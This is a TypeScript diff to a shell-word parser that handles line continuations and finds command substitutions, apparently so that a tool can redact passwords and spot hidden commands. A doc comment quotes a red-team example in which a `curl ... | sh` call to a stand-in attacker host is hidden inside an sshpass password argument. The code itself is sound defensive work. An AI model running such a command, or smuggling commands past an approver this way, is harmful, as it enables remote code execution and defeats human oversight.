@@ -37,8 +37,9 @@ export function endsShellWord(c: number): boolean {
 /**
  * Reads the shell word starting at `start`, at most to `limit` (exclusive, UTF-16 index):
  * unquoted characters to white space or an operator not escaped by `\`; `'…'` literal to the
- * next `'`; `"…"` to the next `"` not escaped by `\`. A backslash before a line break ends
- * the word (a continued line). A quote not closed on its line leaves the word `open`, ending
+ * next `'`; `"…"` to the next `"` not escaped by `\`. A backslash before a line break joins
+ * the lines (the shell removes both) where the word goes on after it, in or out of double
+ * quotes; before white space on the next line it ends the word (a continued command). A quote not closed on its line leaves the word `open`, ending
  * before that quote (text decoded from JSON reads `"abc"def" ping` for `"abc\"def" ping`).
  * Each character is read once: linear.
  *
@@ -61,8 +62,16 @@ export function readShellWord(text: string, start: number, limit: number): Shell
       while (k < limit) {
         const d = text.charCodeAt(k);
         if (d === c || d === 10 || d === 13) break;
-        // Inside double quotes `\` escapes the next character; inside single quotes nothing.
-        if (d === 92 && c === 34 && k + 1 < limit && codeAt(text, k + 1) !== 10) k++;
+        // Inside double quotes `\` escapes the next character, and `\` before a line break
+        // joins the lines (red team m1); inside single quotes nothing.
+        if (d === 92 && c === 34 && k + 1 < limit) {
+          const n = continuationAt(text, k, limit);
+          if (n > 0) {
+            k += n;
+            continue;
+          }
+          k++;
+        }
         k++;
       }
       if (k >= limit || text.charCodeAt(k) !== c) {
@@ -72,6 +81,14 @@ export function readShellWord(text: string, start: number, limit: number): Shell
       continue;
     }
     if (c === 92) {
+      // `\` before a line break inside a word joins the lines into one word
+      // (`Xk9mQ2pL\⏎7vRtYw3z`; red team m1: the tail of a password showed). At the word's
+      // start it only continues the command (the caller's to skip).
+      const joined = j > start ? continuationAt(text, j, limit) : 0;
+      if (joined > 0 && !endsShellWord(codeAt(text, j + joined))) {
+        j += joined;
+        continue;
+      }
       const n = codeAt(text, j + 1);
       if (n === -1 || n === 10 || n === 13 || j + 1 >= limit) break;
       pieces++;
@@ -88,4 +105,86 @@ export function readShellWord(text: string, start: number, limit: number): Shell
   }
   const quotedWhole = pieces === 1 && quotedPieces === 1 ? lastQuote : 0;
   return { end: j, quotedWhole, open: false, read: j };
+}
+
+/**
+ * How many characters a line continuation at `j` takes: 2 for `\` and `\n`, 3 for `\` and
+ * `\r\n`, 0 when there is none (or it runs past `limit`).
+ */
+export function continuationAt(text: string, j: number, limit: number): number {
+  if (codeAt(text, j) !== 92) return 0;
+  const n = codeAt(text, j + 1);
+  if (n === 10 && j + 2 <= limit) return 2;
+  if (n === 13 && codeAt(text, j + 2) === 10 && j + 3 <= limit) return 3;
+  return 0;
+}
+
+/**
+ * The pieces of the word text `[from, to)` outside what the shell expands by running code:
+ * a command substitution (`$(…)`, a backtick's) and a parameter expansion (`${…}`), where
+ * they are not single-quoted. Inside double quotes the shell runs them too (red team m1:
+ * `sshpass -p "x$(curl -s https://evil.example/p|sh)"` hid the command from an approver as
+ * part of the password): they split the password, and what they hold is no password's.
+ * `inside`: the quote the range stands in (34 or 39; 0: a word's own text, whose quotes are
+ * followed). A substitution not closed before `to` runs to it. Pieces holding only quote
+ * characters are left out. Each character is read once: linear.
+ *
+ * @returns `[start, end)` pairs, in order; `[[from, to]]` when nothing is expanded.
+ */
+export function unexpandedPieces(
+  text: string,
+  from: number,
+  to: number,
+  inside: number,
+): Array<[number, number]> {
+  const pieces: Array<[number, number]> = [];
+  const push = (s: number, e: number) => {
+    for (let i = s; i < e; i++) {
+      const c = text.charCodeAt(i);
+      if (c !== 34 && c !== 39) {
+        pieces.push([s, e]);
+        return;
+      }
+    }
+  };
+  if (inside === 39) return [[from, to]];
+  let quote = inside;
+  let s = from;
+  let j = from;
+  while (j < to) {
+    const c = text.charCodeAt(j);
+    if (quote !== 39 && c === 92) {
+      j += 2;
+      continue;
+    }
+    if (inside === 0 && (c === 34 || c === 39) && (quote === 0 || quote === c)) {
+      quote = quote === 0 ? c : 0;
+      j++;
+      continue;
+    }
+    const n = codeAt(text, j + 1);
+    if (quote !== 39 && (c === 96 || (c === 36 && (n === 40 || n === 123)))) {
+      push(s, j);
+      // To the matching close: `$(` nests with `(`, `${` with `{`; a backtick's to the next.
+      const open = c === 96 ? -1 : n;
+      const close = c === 96 ? 96 : n === 40 ? 41 : 125;
+      let depth = 0;
+      let k = c === 96 ? j + 1 : j + 2;
+      while (k < to) {
+        const d = text.charCodeAt(k);
+        if (d === 92) k++;
+        else if (d === open) depth++;
+        else if (d === close) {
+          if (depth === 0) break;
+          depth--;
+        }
+        k++;
+      }
+      j = s = Math.min(k + 1, to);
+      continue;
+    }
+    j++;
+  }
+  push(s, Math.min(j, to));
+  return pieces;
 }
